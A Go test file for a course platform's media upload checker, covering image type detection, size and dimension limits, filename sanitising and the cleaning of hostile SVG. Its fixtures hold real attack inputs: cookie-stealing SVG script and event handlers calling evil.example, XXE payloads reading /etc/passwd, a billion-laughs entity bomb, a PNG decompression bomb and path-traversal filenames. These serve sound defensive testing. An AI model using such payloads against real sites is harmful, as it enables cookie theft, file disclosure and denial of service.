package media_test

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/xml"
	"errors"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"io/fs"
	"math/rand/v2"
	"net/http"
	"os"
	"path"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/masar-platform/masar/authoring/media"
	"github.com/masar-platform/masar/courses"
	"github.com/masar-platform/masar/i18n"
)

// picture is a small drawing with some structure, so that it survives JPEG.
func picture(w, h int) image.Image {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.Set(x, y, color.RGBA{uint8(x * 255 / w), uint8(y * 255 / h), 120, 255})
		}
	}
	return img
}

func pngFile(t *testing.T, img image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func jpegFile(t *testing.T, img image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 85}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// refusal returns the key of err, failing the test when err is not an *media.Error.
func refusal(t *testing.T, err error) string {
	t.Helper()
	if err == nil {
		return ""
	}
	var e *media.Error
	if !errors.As(err, &e) {
		t.Fatalf("error %v is not a *media.Error", err)
	}
	return e.Key
}

func TestStoresPNGAndJPEG(t *testing.T) {
	p, j := pngFile(t, picture(64, 48)), jpegFile(t, picture(64, 48))
	for _, c := range []struct {
		file string
		data []byte
		lang string
		want string
	}{
		{"Four phases.png", p, "", "four-phases.png"},
		{"Four phases.png", p, "ar", "four-phases.png"}, // a raster image has no language in its name
		{"workshop-photo.jpeg", j, "", "workshop-photo.jpg"},
		{"IMG_2041.JPG", j, "fr", "img-2041.jpg"},
	} {
		clean, name, err := media.Check(c.file, c.data, c.lang)
		if err != nil {
			t.Errorf("%s: %v", c.file, err)
			continue
		}
		if name != c.want {
			t.Errorf("%s: stored as %q, want %q", c.file, name, c.want)
		}
		if !bytes.Equal(clean, c.data) {
			t.Errorf("%s: the image's bytes were changed", c.file)
		}
	}
}

// The extension comes from what the file is, whatever the browser called it.
func TestExtensionFromContent(t *testing.T) {
	p, j := pngFile(t, picture(20, 20)), jpegFile(t, picture(20, 20))
	for _, c := range []struct {
		file string
		data []byte
		want string
	}{
		{"scan.jpg", p, "scan.png"},
		{"scan.svg", p, "scan.png"},
		{"chart.png", j, "chart.jpg"},
		{"chart", j, "chart.jpg"},
		{"chart.gif", j, "chart.jpg"},
	} {
		if _, name, err := media.Check(c.file, c.data, ""); err != nil || name != c.want {
			t.Errorf("%s: %q, %v; want %q", c.file, name, err, c.want)
		}
	}
}

func TestRefusesOtherFiles(t *testing.T) {
	var g bytes.Buffer
	pal := image.NewPaletted(image.Rect(0, 0, 8, 8), color.Palette{color.Black, color.White})
	if err := gif.Encode(&g, pal, nil); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		what, file string
		data       []byte
		key        string
	}{
		{"text named .png", "notes.png", []byte("Minutes of the steering committee, 3 March.\n"), media.KeyUnsupported},
		{"GIF", "anim.png", g.Bytes(), media.KeyUnsupported},
		{"WebP", "photo.png", append([]byte("RIFF\x24\x00\x00\x00WEBPVP8 "), make([]byte, 32)...), media.KeyUnsupported},
		{"PDF", "slides.png", []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"), media.KeyUnsupported},
		{"HTML", "figure.svg", []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"), media.KeyUnsupported},
		{"HTML fragment", "figure.svg", []byte("<div onclick=\"x()\">hello</div>"), media.KeyUnsupported},
		{"Windows program", "setup.jpg", append([]byte("MZ\x90\x00"), make([]byte, 60)...), media.KeyUnsupported},
		{"Linux program", "tool.png", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 60)...), media.KeyUnsupported},
		{"ZIP", "pack.png", []byte("PK\x03\x04\x14\x00\x00\x00"), media.KeyUnsupported},
		{"XML that is not SVG", "data.svg", []byte(`<?xml version="1.0"?><rss version="2.0"><channel/></rss>`), media.KeyUnsupported},
		{"not even XML", "x.svg", []byte("<3 this figure"), media.KeyUnsupported},
		{"empty", "empty.png", nil, media.KeyEmpty},
		{"blank", "blank.svg", []byte(" \n\t"), media.KeyEmpty},
	} {
		clean, name, err := media.Check(c.file, c.data, "en")
		if got := refusal(t, err); got != c.key {
			t.Errorf("%s: key %q, want %q", c.what, got, c.key)
		}
		if clean != nil || name != "" {
			t.Errorf("%s: refused but returned %q", c.what, name)
		}
	}
}

// withDimensions rewrites a PNG's IHDR to claim w×h, with a correct checksum, so that only
// the dimensions lie.
func withDimensions(t *testing.T, p []byte, w, h uint32) []byte {
	t.Helper()
	p = bytes.Clone(p)
	if string(p[12:16]) != "IHDR" {
		t.Fatal("no IHDR")
	}
	binary.BigEndian.PutUint32(p[16:], w)
	binary.BigEndian.PutUint32(p[20:], h)
	binary.BigEndian.PutUint32(p[29:], crc32.ChecksumIEEE(p[12:29]))
	return p
}

func TestRefusesLyingOrAbsurdRaster(t *testing.T) {
	p := pngFile(t, picture(32, 32))
	huge := withDimensions(t, p, 100000, 100000)

	// Decoding 100000×100000 pixels would take 40 GB; the header alone must refuse it.
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, _, err := media.Check("bomb.png", huge, "")
	runtime.ReadMemStats(&after)
	if got := refusal(t, err); got != media.KeyDimensions {
		t.Fatalf("100000×100000 PNG: key %q, want %q", got, media.KeyDimensions)
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 1<<20 {
		t.Errorf("refusing a 100000×100000 header allocated %d bytes", alloc)
	}
	var e *media.Error
	errors.As(err, &e)
	if !slicesContain(e.Args, 100000) {
		t.Errorf("the refusal does not tell the dimensions: %v", e.Args)
	}

	j := jpegFile(t, picture(32, 32))
	for _, c := range []struct {
		what string
		data []byte
		key  string
	}{
		{"one side too long", withDimensions(t, p, 9000, 10), media.KeyDimensions},
		{"too many pixels", withDimensions(t, p, 7000, 7000), media.KeyDimensions},
		{"zero width", withDimensions(t, p, 0, 10), media.KeyDamaged},
		{"header claims more pixels than the data holds", withDimensions(t, p, 64, 64), media.KeyDamaged},
		{"cut short", p[:len(p)/2], media.KeyDamaged},
		{"PNG signature, then text", append(bytes.Clone(p[:8]), "this is not a picture at all"...), media.KeyDamaged},
		{"JPEG signature, then text", append([]byte{0xFF, 0xD8, 0xFF, 0xE0}, "not a picture"...), media.KeyDamaged},
		{"JPEG cut short", j[:len(j)/3], media.KeyDamaged},
	} {
		_, _, err := media.Check("x.png", c.data, "")
		if got := refusal(t, err); got != c.key {
			t.Errorf("%s: key %q, want %q", c.what, got, c.key)
		}
	}
}

func slicesContain(args []any, v any) bool {
	for _, a := range args {
		if a == v {
			return true
		}
	}
	return false
}

func TestRefusesOversize(t *testing.T) {
	// Noise does not compress: 800×800 RGBA pixels make a PNG of about 2.5 MB.
	r := rand.New(rand.NewPCG(1, 2))
	noise := image.NewNRGBA(image.Rect(0, 0, 800, 800))
	for i := range noise.Pix {
		noise.Pix[i] = uint8(r.UintN(256))
	}
	var b bytes.Buffer
	if err := (&png.Encoder{CompressionLevel: png.BestSpeed}).Encode(&b, noise); err != nil {
		t.Fatal(err)
	}
	big := b.Bytes()
	if len(big) <= media.MaxRaster {
		t.Fatalf("test image only %d bytes", len(big))
	}
	_, _, err := media.Check("noise.png", big, "")
	if got := refusal(t, err); got != media.KeyTooLarge {
		t.Errorf("%d KB PNG: key %q", len(big)>>10, got)
	}
	var e *media.Error
	if errors.As(err, &e); !slicesContain(e.Args, 2) {
		t.Errorf("the refusal does not say 2 MB: %v", e.Args)
	}

	// A figure over 64 KB once cleaned: a long run of real shapes.
	var shapes strings.Builder
	for i := range 1500 {
		shapes.WriteString(`<circle cx="` + strconv.Itoa(i%440) + `" cy="` + strconv.Itoa(i%300) + `" r="3" fill="#2a6"/>` + "\n")
	}
	svg := figure("en", "", shapes.String())
	_, _, err = media.Check("dots.svg", []byte(svg), "en")
	if got := refusal(t, err); got != media.KeySVGTooLarge {
		t.Errorf("%d KB SVG: key %q", len(svg)>>10, got)
	}
	// Far too large to be worth reading.
	_, _, err = media.Check("dots.svg", []byte(figure("en", "", strings.Repeat(`<g></g>`, 400_000))), "en")
	if got := refusal(t, err); got != media.KeySVGTooLarge {
		t.Errorf("3 MB SVG: key %q", got)
	}
	// Just under the limit is kept.
	small := figure("en", "", shapes.String()[:40_000])
	small = small[:strings.LastIndex(small[:len(small)-len("</svg>")], "/>")+2] + "</svg>"
	if _, _, err := media.Check("dots.svg", []byte(small), "en"); err != nil {
		t.Errorf("%d KB SVG refused: %v", len(small)>>10, err)
	}
}

// figure is a valid course figure in lang with extra root attributes and content.
func figure(lang, attrs, body string) string {
	l := ""
	if lang != "" {
		l = ` lang="` + lang + `"`
	}
	return `<svg xmlns="http://www.w3.org/2000/svg" role="img"` + l + ` viewBox="0 0 440 300"` + attrs + `>` +
		"\n<title>The four phases</title>\n" + body + "\n</svg>\n"
}

// A figure as an attacker (or a careless export) would send it.
const hostile = `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="https://evil.example/steal.xsl"?>
<!-- made by hand -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
     role="img" lang="ar" direction="rtl" viewBox="0 0 440 300" onload="steal(document.cookie)">
  <title>مراحل الحكومة المنفتحة الأربع</title>
  <desc>Four boxes, right to left.</desc>
  <style>@import url("https://evil.example/a.css"); text { font-size: 16px }</style>
  <style>text.phase { font-size: 14px; fill: #123 }</style>
  <style>rect { fill: \75 rl(https://evil.example/track.png) }</style>
  <script>alert("figure")</script>
  <script xlink:href="https://evil.example/x.js"/>
  <defs>
    <linearGradient id="g"><stop offset="0" stop-color="#0a5"/></linearGradient>
    <path id="shape" d="M0 0h100v40H0z"/>
  </defs>
  <g inkscape:label="Layer 1" id="layer1">
    <rect x="10" y="10" width="100" height="40" fill="url(#g)" onclick="steal()"/>
    <rect x="120" y="10" width="100" height="40" style="fill: url('https://evil.example/p.svg#x')"/>
    <rect x="230" y="10" width="100" height="40" OnMouseOver="steal()" filter="url(https://evil.example/f.svg#blur)"/>
    <use xlink:href="#shape" x="0" y="60"/>
    <use xlink:href="https://evil.example/sprite.svg#icon" x="0" y="60"/>
    <use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" x="0" y="60"/>
    <image href="http://evil.example/pixel.gif" width="1" height="1"/>
    <image href="data:image/svg+xml,%3Csvg onload='alert(1)'/%3E" width="1" height="1"/>
    <image href="DATAURI" width="4" height="4"/>
    <a xlink:href="javascript:alert(1)"><text x="300" y="100" class="phase">الشفافية</text></a>
    <a href="https://evil.example/" target="_blank" transform="translate(0 20)"><text x="300" y="140" class="phase">المشاركة</text></a>
    <a href="#layer1"><text x="300" y="180">التعاون</text></a>
    <text x="300" y="220" class="phase">الالتزام &amp; المساءلة</text>
    <set attributeName="xlink:href" to="https://evil.example/" begin="0s"/>
    <animate attributeName="onclick" to="steal()" begin="0s"/>
    <animate attributeName="fill" values="red;blue" dur="2s" to="javascript:alert(1)"/>
    <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/"></iframe>Hidden</div></foreignObject>
    <h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example/"/>
    <h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(2)</h:script>
    <embed src="https://evil.example/x.swf"/>
    <object data="https://evil.example/x.pdf"/>
    <img src="x" onerror="steal()"/>
    <handler type="application/ecmascript">steal()</handler>
    <rect x="0" y="250" width="10" height="10" xml:base="https://evil.example/"/>
    <rect x="20" y="250" width="10" height="10" data-note="java&#x09;script:alert(1)"/>
  </g>
</svg>
`

func TestCleansHostileSVG(t *testing.T) {
	dot := base64.StdEncoding.EncodeToString(pngFile(t, picture(4, 4)))
	in := strings.Replace(hostile, "DATAURI", "data:image/png;base64,"+dot, 1)
	clean, name, err := media.Check("مراحل الحكومة.ar.svg", []byte(in), "ar")
	if err != nil {
		t.Fatal(err)
	}
	if name != "image.ar.svg" {
		t.Errorf("stored as %q", name)
	}
	out := string(clean)
	lower := strings.ToLower(out)
	for _, gone := range []string{"evil.example", "script", "onload", "onclick", "onmouseover", "onerror",
		"foreignobject", "iframe", "embed", "object", "<img", "handler", "@import", "javascript", "xml-stylesheet",
		"data:image/svg", "steal", "xml:base", "<!--", "hidden"} {
		if strings.Contains(lower, gone) {
			t.Errorf("%q is still in the cleaned figure", gone)
		}
	}
	for _, kept := range []string{
		"<title>مراحل الحكومة المنفتحة الأربع</title>", "<desc>Four boxes, right to left.</desc>",
		">الشفافية<", ">المشاركة<", ">التعاون<", "الالتزام &amp; المساءلة",
		`fill="url(#g)"`, `xlink:href="#shape"`, `href="#layer1"`, `inkscape:label="Layer 1"`,
		`xmlns:xlink="http://www.w3.org/1999/xlink"`, `direction="rtl"`, `viewBox="0 0 440 300"`,
		"text.phase { font-size: 14px; fill: #123 }", "data:image/png;base64," + dot,
		`<g transform="translate(0 20)">`, `<g><text x="300" y="100" class="phase">الشفافية</text></g>`, `<animate attributeName="fill" values="red;blue" dur="2s"/>`,
		`<linearGradient id="g"><stop offset="0" stop-color="#0a5"/></linearGradient>`,
	} {
		if !strings.Contains(out, kept) {
			t.Errorf("%q was lost", kept)
		}
	}

	// The result is well-formed, namespace-correct SVG with the text in place.
	d := xml.NewDecoder(strings.NewReader(out))
	var text strings.Builder
	var root xml.Name
	for {
		tok, err := d.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("cleaned figure does not parse: %v\n%s", err, out)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			if root.Local == "" {
				root = tok.Name
			}
			if tok.Name.Space != "http://www.w3.org/2000/svg" {
				t.Errorf("element %v left its namespace", tok.Name)
			}
		case xml.CharData:
			text.Write(tok)
		}
	}
	if root != (xml.Name{Space: "http://www.w3.org/2000/svg", Local: "svg"}) {
		t.Errorf("root %v", root)
	}
	if words := strings.Join(strings.Fields(text.String()), " "); !strings.Contains(words, "الشفافية المشاركة التعاون الالتزام & المساءلة") {
		t.Errorf("the figure's words read %q", words)
	}

	// Cleaning a clean figure changes nothing.
	again, _, err := media.Check("x.svg", clean, "ar")
	if err != nil || !bytes.Equal(again, clean) {
		t.Errorf("cleaning twice differs (%v):\n%s\n---\n%s", err, clean, again)
	}
}

// What Check stores passes `masar content check` as a lesson's figure.
func TestCleanFigurePassesContentCheck(t *testing.T) {
	const dir = "../../courses/testdata/broken/30-svg-no-title"
	fsys := fstest.MapFS{}
	err := fs.WalkDir(os.DirFS(dir), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path.Join(dir, p))
		fsys["30-figure/"+p] = &fstest.MapFile{Data: b}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	in := strings.NewReplacer(`lang="ar"`, `lang="en"`, `direction="rtl" `, "").Replace(hostile)
	clean, _, err := media.Check("figure.svg", []byte(in), "en")
	if err != nil {
		t.Fatal(err)
	}
	fsys["30-figure/images/figure.svg"] = &fstest.MapFile{Data: clean}
	for _, p := range courses.Check(fsys) {
		if strings.Contains(p.String(), "figure.svg") {
			t.Errorf("content check: %v", p)
		}
	}
}

func TestRefusesEntities(t *testing.T) {
	for what, doc := range map[string]string{
		"billion laughs": `<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<svg xmlns="http://www.w3.org/2000/svg" role="img"><title>&lol2;</title></svg>`,
		"external entity": `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" role="img"><title>&xxe;</title></svg>`,
		"parameter entity": `<!DOCTYPE svg [<!entity % p SYSTEM "https://evil.example/x.dtd"> %p;]>
<svg xmlns="http://www.w3.org/2000/svg" role="img"><title>x</title></svg>`,
	} {
		_, _, err := media.Check("f.svg", []byte(doc), "en")
		if got := refusal(t, err); got != media.KeySVGEntities {
			t.Errorf("%s: key %q", what, got)
		}
	}
	// A DOCTYPE without entities (old exports) is only dropped.
	old := `<?xml version="1.0" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
` + figure("en", "", `<text x="10" y="20">Open data&nbsp;portal</text>`)
	clean, _, err := media.Check("f.svg", []byte(old), "en")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(clean), "DOCTYPE") || !strings.Contains(string(clean), "Open data\u00a0portal") {
		t.Errorf("cleaned: %s", clean)
	}
}

func TestFigureRequirements(t *testing.T) {
	const ns = `xmlns="http://www.w3.org/2000/svg"`
	for _, c := range []struct {
		what, doc, lang, key string
	}{
		{"no role", `<svg ` + ns + `><title>Phases</title></svg>`, "en", media.KeySVGRole},
		{"another role", `<svg ` + ns + ` role="presentation"><title>Phases</title></svg>`, "en", media.KeySVGRole},
		{"no title", `<svg ` + ns + ` role="img"><text>Phases</text></svg>`, "en", media.KeySVGTitle},
		{"empty title", `<svg ` + ns + ` role="img"><title>  </title></svg>`, "en", media.KeySVGTitle},
		{"other language", `<svg ` + ns + ` role="img" lang="fr"><title>Les phases</title></svg>`, "en", media.KeySVGLang},
		{"other xml:lang", `<svg ` + ns + ` role="img" xml:lang="ar"><title>Phases</title></svg>`, "en", media.KeySVGLang},
		{"no lesson language", figure("", "", ""), "", media.KeySVGLangRequired},
		{"unknown lesson language", figure("", "", ""), "de", media.KeyBadLang},
		{"no namespace", `<svg role="img"><title>Phases</title></svg>`, "en", media.KeySVGNamespace},
		{"prefixed root", `<s:svg xmlns:s="http://www.w3.org/2000/svg" role="img"><s:title>P</s:title></s:svg>`, "en", media.KeySVGNamespace},
		{"unclosed", figure("en", "", `<g><rect/>`), "en", media.KeySVGInvalid},
		{"mismatched", figure("en", "", `<g></text>`), "en", media.KeySVGInvalid},
		{"attribute twice", figure("en", "", `<rect x="1" x="2"/>`), "en", media.KeySVGInvalid},
		{"undeclared prefix", figure("en", "", `<foo:bar/>`), "en", media.KeySVGInvalid},
		{"two roots", figure("en", "", "") + figure("en", "", ""), "en", media.KeySVGInvalid},
		{"unknown entity", figure("en", "", `<text>&madeup;</text>`), "en", media.KeySVGInvalid},
		{"not UTF-8", figure("en", "", "<text>caf\xe9</text>"), "en", media.KeySVGInvalid},
		{"not UTF-8 in the root", figure("en", ` aria-label="caf`+"\xe9"+`"`, ""), "en", media.KeySVGInvalid},
		{"nested too deep", figure("en", "", strings.Repeat("<g>", 200)+strings.Repeat("</g>", 200)), "en", media.KeySVGNesting},
	} {
		_, _, err := media.Check("f.svg", []byte(c.doc), c.lang)
		if got := refusal(t, err); got != c.key {
			t.Errorf("%s: key %q, want %q", c.what, got, c.key)
		}
	}
	// The line of a syntax error is given.
	_, _, err := media.Check("f.svg", []byte(figure("en", "", "<g>\n<rect>\n</g>")), "en")
	var e *media.Error
	if !errors.As(err, &e) || !slicesContain(e.Args, 5) {
		t.Errorf("syntax error: %v, want line 5", err)
	}
	// lang is optional; when it is there, it is the lesson's.
	for _, lang := range []string{"ar", "en", "fr"} {
		if _, _, err := media.Check("f.svg", []byte(figure(lang, "", "")), lang); err != nil {
			t.Errorf("%s figure: %v", lang, err)
		}
		if _, _, err := media.Check("f.svg", []byte(figure("", "", "")), lang); err != nil {
			t.Errorf("figure without lang for %s: %v", lang, err)
		}
	}
}

func TestStoredNames(t *testing.T) {
	p := pngFile(t, picture(8, 8))
	svg := []byte(figure("", "", ""))
	valid := regexp.MustCompile(`^[a-z0-9]+(-[a-z0-9]+)*\.(png|jpg|(ar|en|fr)\.svg)$`)
	for _, c := range []struct {
		file string
		data []byte
		lang string
		want string
	}{
		{"مراحل الحكومة المنفتحة.png", p, "", "image.png"},
		{"خريطة ٢٠٢٤.png", p, "", "2024.png"},
		{"../../etc/passwd.png", p, "", "passwd.png"},
		{"/var/www/static/logo.png", p, "", "logo.png"},
		{`C:\fakepath\Schéma Général (v2).png`, p, "", "schema-general-v2.png"},
		{`..\..\windows\system32\evil.png`, p, "", "evil.png"},
		{"..", p, "", "image.png"},
		{".png", p, "", "image.png"},
		{"", p, "", "image.png"},
		{"\u202egnp.exe", p, "", "gnp.png"},
		{"Données ouvertes__2024--final.PNG", p, "", "donnees-ouvertes-2024-final.png"},
		{strings.Repeat("long-name-", 20) + ".png", p, "", strings.TrimSuffix(strings.Repeat("long-name-", 6), "-") + ".png"},
		{"four-phases.ar.svg", svg, "en", "four-phases.en.svg"},
		{"Four Phases.svg", svg, "fr", "four-phases.fr.svg"},
		{"المراحل.svg", svg, "ar", "image.ar.svg"},
		{"../../content/01-x/images/figure.fr.svg", svg, "ar", "figure.ar.svg"},
	} {
		_, name, err := media.Check(c.file, c.data, c.lang)
		if err != nil {
			t.Errorf("%q: %v", c.file, err)
			continue
		}
		if name != c.want {
			t.Errorf("%q stored as %q, want %q", c.file, name, c.want)
		}
		if !valid.MatchString(name) {
			t.Errorf("%q stored as %q, not a plain file name", c.file, name)
		}
	}
}

// Every refusal reads as a sentence in each language, with its placeholders filled.
func TestMessagesInEveryLanguage(t *testing.T) {
	cat, err := i18n.Load()
	if err != nil {
		t.Fatal(err)
	}
	for _, key := range media.Keys {
		for _, l := range i18n.Langs {
			if !cat.Has(l, key) {
				t.Errorf("%s: no message %q", l, key)
			}
		}
	}
	p := pngFile(t, picture(8, 8))
	inputs := []struct {
		data []byte
		lang string
	}{
		{nil, ""}, {[]byte("text"), ""}, {withDimensions(t, p, 9000, 9000), ""}, {p[:30], ""},
		{[]byte(figure("fr", "", "")), "en"}, {[]byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`), "en"},
		{[]byte(figure("en", "", "<g>")), "en"}, {[]byte(`<svg/>`), "en"}, {p, "es"},
		{append(bytes.Clone(p), make([]byte, media.MaxRaster)...), ""},
	}
	for _, in := range inputs {
		_, _, err := media.Check("f.svg", in.data, in.lang)
		var e *media.Error
		if !errors.As(err, &e) {
			t.Fatalf("not refused: %v", err)
		}
		if !strings.HasPrefix(e.Error(), "media: "+e.Key) {
			t.Errorf("Error() = %q", e.Error())
		}
		if pr := e.Problem(); pr.Status != http.StatusUnprocessableEntity || pr.Key != e.Key {
			t.Errorf("Problem() = %+v", pr)
		}
		for _, l := range i18n.Langs {
			msg := cat.T(l, e.Key, e.Args...)
			if msg == e.Key || strings.ContainsAny(msg, "{}") {
				t.Errorf("%s %s: %q", l, e.Key, msg)
			}
		}
	}
}
